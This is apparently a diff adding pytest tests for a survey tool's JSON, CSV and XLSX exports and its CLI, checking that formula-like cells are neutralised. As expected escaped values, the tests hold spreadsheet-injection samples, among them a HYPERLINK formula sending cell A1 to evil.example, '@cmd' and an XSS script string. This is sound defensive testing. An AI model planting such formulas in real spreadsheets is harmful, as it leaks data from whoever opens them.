@@ -1,0 +1,176 @@
+"""Exports: the JSON contract, CSV and XLSX tables with neutralised formulas, the CLI."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+from openpyxl import load_workbook
+
+from quickscan.services import exports
+from quickscan.services.results import score
+
+from tests.results.conftest import INJECTIONS
+
+ROUND_KEYS = {"id", "name", "municipality", "status", "banks"}
+DEPARTMENT_KEYS = {"id", "name", "respondents_started", "respondents_submitted", "banks"}
+THEME_KEYS = {"id", "score", "target", "gap", "importance", "priority", "answered",
+              "dont_know", "not_applicable", "flags"}
+PRIORITY_KEYS = {"rank", "department", "bank", "theme", "score", "target", "gap",
+                 "importance", "priority", "action"}
+RESPONSE_KEYS = {"id", "department", "submitted_at", "answers", "importance", "comments"}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def check_schema(data: dict) -> None:
+    """Assert the documented quickscan-export/1 shape (extra fields are allowed)."""
+    assert data["schema"] == "quickscan-export/1"
+    assert ROUND_KEYS <= set(data["round"])
+    for bank in data["round"]["banks"]:
+        assert {"id", "version", "sha256"} <= set(bank) and len(bank["sha256"]) == 64
+    for department in data["departments"]:
+        assert DEPARTMENT_KEYS <= set(department)
+        for bank in department["banks"]:
+            assert {"id", "score", "target", "gap", "themes"} <= set(bank)
+            for theme in bank["themes"]:
+                assert THEME_KEYS <= set(theme)
+                assert theme["score"] is None or isinstance(theme["score"], float)
+                assert isinstance(theme["flags"], list)
+    for priority in data["priorities"]:
+        assert PRIORITY_KEYS <= set(priority)
+    for response in data["responses"]:
+        assert RESPONSE_KEYS <= set(response)
+        for answer in response["answers"]:
+            assert set(answer) == {"question", "value"}
+            value = answer["value"]
+            assert value in ("dont_know", "not_applicable") or (
+                isinstance(value, int) and 0 <= value <= 4)
+        for rating in response["importance"]:
+            assert "/" in rating["theme"] and 1 <= rating["value"] <= 5
+
+
+def test_json_matches_schema_and_engine(app, built_round) -> None:
+    round_ = built_round.round
+    data = json.loads(exports.to_json(round_))
+    check_schema(data)
+    result = score(round_)
+    assert [d["name"] for d in data["departments"]] == [d.name for d in result.departments]
+    for exported, department in zip(data["departments"], result.departments):
+        assert exported["respondents_submitted"] == department.respondents_submitted
+        assert exported["respondents_started"] == department.respondents_started
+        for bank_json, bank in zip(exported["banks"], department.banks):
+            assert bank_json["score"] == bank.score  # unrounded
+            for theme_json, theme in zip(bank_json["themes"], bank.themes):
+                assert theme_json["score"] == theme.score
+                assert theme_json["priority"] == theme.priority
+                assert theme_json["importance"] == theme.importance
+                assert theme_json["flags"] == list(theme.flags)
+    assert [p["priority"] for p in data["priorities"]] == [p.priority for p in result.priorities]
+    assert [p["rank"] for p in data["priorities"]] == list(range(1, len(result.priorities) + 1))
+    submitted = sum(len(t) for t in built_round.submitted_tokens.values())
+    drafts = sum(len(t) for t in built_round.draft_tokens.values())
+    assert len(data["responses"]) == submitted
+    assert all(r["submitted_at"] for r in data["responses"])
+    assert len(data["draft_responses"]) == drafts
+    texts = {c["text"] for r in data["responses"] for c in r["comments"]}
+    assert set(INJECTIONS) <= texts  # JSON carries the raw text; escaping is the reader's job
+    assert data["round"]["banks"][0]["content"]["id"] == data["round"]["banks"][0]["id"]
+    assert all(d["bank_ids"] for d in data["departments"])
+
+
+def test_json_nulls_where_nothing_is_scored(app) -> None:
+    from tests.results.conftest import build_round
+
+    built = build_round([("Leeg", ["bestuur"])], respondents=0, drafts=1)
+    data = json.loads(exports.to_json(built.round))
+    theme = data["departments"][0]["banks"][0]["themes"][0]
+    assert theme["score"] is None and theme["gap"] is None and theme["priority"] is None
+    assert data["responses"] == [] and data["priorities"] == []
+
+
+def test_csv_tables_agree_with_the_engine_and_neutralise_formulas(app, built_round) -> None:
+    round_ = built_round.round
+    result = score(round_)
+    rows = list(csv.reader(io.StringIO(exports.to_csv(round_, "scores").decode("utf-8-sig"))))
+    header = rows[0]
+    scored = {(r[0], r[1], r[3]): r for r in rows[1:]}
+    for department in result.departments:
+        for theme in department.themes():
+            row = scored[(department.name, theme.bank_id, theme.theme_id)]
+            value = row[header.index("score")]
+            assert (value == "" and theme.score is None) or float(value) == theme.score
+    priorities = list(csv.reader(io.StringIO(
+        exports.to_csv(round_, "priorities").decode("utf-8-sig"))))
+    assert len(priorities) == len(result.priorities) + 1
+    answers = exports.to_csv(round_, "answers").decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(answers)) for cell in row]
+    for cell in cells:
+        assert not cell.startswith(FORMULA_STARTS), cell
+    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")" in cells
+    assert "'@cmd" in cells and "'-2+3" in cells and "'\t=1+1" in cells
+    assert "<script>alert('xss')</script>" in cells  # plain text in CSV
+
+
+def test_xlsx_has_no_formulas(app, built_round) -> None:
+    workbook = load_workbook(io.BytesIO(exports.to_xlsx(built_round.round)))
+    assert {"ronde", "scores", "prioriteiten", "antwoorden", "belang"} <= set(
+        workbook.sheetnames)
+    values = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
+                    values.append(cell.value)
+    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")" in values
+    result = score(built_round.round)
+    sheet = workbook["prioriteiten"]
+    header = [c.value for c in sheet[1]]
+    first = [c.value for c in sheet[2]]
+    # Spreadsheets keep 15 significant digits.
+    assert first[header.index("priority")] == pytest.approx(result.priorities[0].priority,
+                                                            rel=1e-13)
+
+
+def test_export_routes(coordinator_client, built_round) -> None:
+    rid = built_round.round.id
+    response = coordinator_client.get(f"/rondes/{rid}/export.json")
+    assert response.status_code == 200 and response.mimetype == "application/json"
+    check_schema(response.get_json())
+    response = coordinator_client.get(f"/rondes/{rid}/export.csv?tabel=prioriteiten")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert "prioriteiten.csv" in response.headers["Content-Disposition"]
+    response = coordinator_client.get(f"/rondes/{rid}/export.xlsx")
+    assert response.status_code == 200 and response.data[:2] == b"PK"
+    assert coordinator_client.get(f"/rondes/{rid}/export.csv?tabel=geheim").status_code == 400
+    assert coordinator_client.get(f"/rondes/{rid}/export.pdfx").status_code == 404
+    assert coordinator_client.get("/rondes/999999/export.json").status_code == 404
+
+
+def test_cli_report_and_export(app, built_round, tmp_path) -> None:
+    runner = app.test_cli_runner()
+    rid = str(built_round.round.id)
+    out = tmp_path / "ronde.pdf"
+    result = runner.invoke(args=["report", rid, "--out", str(out), "--quiet"])
+    assert result.exit_code == 0, result.output
+    assert out.read_bytes().startswith(b"%PDF")
+    department = built_round.departments[0].name
+    out = tmp_path / "afdeling.pdf"
+    result = runner.invoke(args=["report", rid, "--department", department, "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    assert out.exists()
+    result = runner.invoke(args=["report", rid, "--department", "Bestaat niet", "--out",
+                                 str(tmp_path / "x.pdf")])
+    assert result.exit_code == 1 and "not found" in result.output
+    for fmt in ("json", "csv", "xlsx"):
+        target = tmp_path / f"export.{fmt}"
+        result = runner.invoke(args=["export", rid, "--format", fmt, "--out", str(target)])
+        assert result.exit_code == 0, result.output
+        assert target.stat().st_size > 100
+    check_schema(json.loads((tmp_path / "export.json").read_text(encoding="utf-8")))
+    result = runner.invoke(args=["export", "999", "--format", "json", "--out",
+                                 str(tmp_path / "y.json")])
+    assert result.exit_code == 1
